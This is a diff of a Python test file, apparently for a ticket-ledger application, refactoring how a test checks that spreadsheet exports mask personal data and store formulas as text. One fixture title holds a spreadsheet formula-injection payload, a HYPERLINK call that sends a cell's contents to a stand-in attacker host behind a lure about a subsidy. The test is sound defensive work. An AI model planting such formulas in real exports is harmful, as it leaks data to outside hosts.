@@ -12,7 +12,18 @@ from sqlalchemy import select
 from app.extensions import db
 from app.models import AccessLog, Attachment, RepeatLink, Section, User
 from app.services import ledger
-from tests.helpers import DISPATCH, HANDLE, RESPOND, SIGN, complete, new_ticket, open_item, run_to, user
+from tests.helpers import (
+    DISPATCH,
+    HANDLE,
+    RESPOND,
+    SIGN,
+    complete,
+    export_ledger,
+    new_ticket,
+    open_item,
+    run_to,
+    user,
+)
 
 PHONE, ID_NUMBER = "13912345678", "110101198001051234"
 MP3 = b"ID3\x03\x00\x00\x00\x00\x00\x00" + bytes(200)
@@ -113,7 +124,7 @@ def test_the_ledger_export_masks_free_text_and_keeps_formulas_as_text(app, brows
     ticket = new_ticket(title='=HYPERLINK("http://evil.example/?x="&A1,"点我领补贴")',
                         content=f"来电人电话{PHONE}")
     ledger.add_note(ticket.id, user("paidan"), "+1 备注也可能像公式")
-    response = browser("tongji").get("/tickets/export.xlsx")
+    response = export_ledger(browser("tongji"))
     assert response.status_code == 200
     raw = response.data
     ws = load_workbook(io.BytesIO(raw)).active
